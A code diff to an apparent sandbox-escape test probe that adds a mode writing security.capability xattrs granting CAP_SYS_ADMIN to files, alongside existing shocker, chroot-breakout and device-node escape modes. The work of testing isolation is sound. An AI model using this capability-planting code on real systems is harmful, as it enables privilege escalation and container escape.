@@ -15,6 +15,7 @@
  *   escape devs OFF NODE...           opens device nodes: KVM ioctl, pread at OFF
  *   escape handles DIR NAME...        forged open_by_handle_at (the "shocker")
  *   escape chroot NAME...             the classic chroot breakout
+ *   escape fcap FILE...               file capabilities (revisions 2 and 3) on FILEs
  *
  * It never knows the secrets: it prints whatever it manages to read ("READ
  * label: text") and every write that succeeds ("WROTE label"), and the host
@@ -36,6 +37,7 @@
 #include <sys/ioctl.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
+#include <sys/xattr.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -611,6 +613,25 @@ static int mode_devs(int argc, char **argv)
 	return 0;
 }
 
+/* security.capability as a guest kernel would write it for root (revision
+ * 2) and for a user namespace rooted at host uid 0 (revision 3): CAP_SYS_ADMIN
+ * permitted and effective. */
+static int mode_fcap(int argc, char **argv)
+{
+	if (argc < 1)
+		return 2;
+	for (int i = 0; i < argc; i++) {
+		uint32_t v[6] = { 0x02000001u, 1u << 21, 0, 0, 0, 0 };
+		int r2 = setxattr(argv[i], "security.capability", v, 20, 0);
+		printf("fcap %s: v2 %s\n", argv[i], r2 == 0 ? "SET" : strerror(errno));
+		v[0] = 0x03000001u;
+		int r3 = setxattr(argv[i], "security.capability", v, 24, 0);
+		printf("fcap %s: v3 %s\n", argv[i], r3 == 0 ? "SET" : strerror(errno));
+	}
+	printf("fcap: done\n");
+	return 0;
+}
+
 /* fuse_encode_fh(): nodeid high, nodeid low, generation (and the parent's
  * three words for a connectable handle). */
 static int mode_handles(int argc, char **argv)
@@ -725,6 +746,8 @@ int main(int argc, char **argv)
 		rc = mode_handles(ac, av);
 	else if (!strcmp(m, "chroot"))
 		rc = mode_chroot(ac, av);
+	else if (!strcmp(m, "fcap"))
+		rc = mode_fcap(ac, av);
 	if (rc == 2)
 		fprintf(stderr, "escape: bad mode or arguments: %s\n", m);
 	return rc;
